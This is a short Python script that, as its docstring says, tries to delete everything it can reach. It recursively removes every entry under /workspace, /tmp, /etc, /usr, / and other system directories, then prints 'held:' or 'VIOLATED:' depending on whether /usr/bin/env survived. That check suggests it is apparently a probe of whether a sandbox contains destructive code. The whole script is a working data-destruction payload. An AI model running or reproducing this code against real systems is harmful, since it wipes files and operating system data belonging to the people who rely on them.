"""Deletes everything that it can reach."""

import os
import shutil

for folder in ("/workspace", "/tmp", "/dev/shm", "/run", "/var", "/etc", "/opt", "/usr", "/"):
    try:
        entries = os.listdir(folder)
    except OSError:
        continue
    for entry in entries:
        path = os.path.join(folder, entry)
        shutil.rmtree(path, ignore_errors=True)
        try:
            os.unlink(path)
        except OSError:
            pass
print("held:" if os.path.exists("/usr/bin/env") else "VIOLATED:", "the system is there")
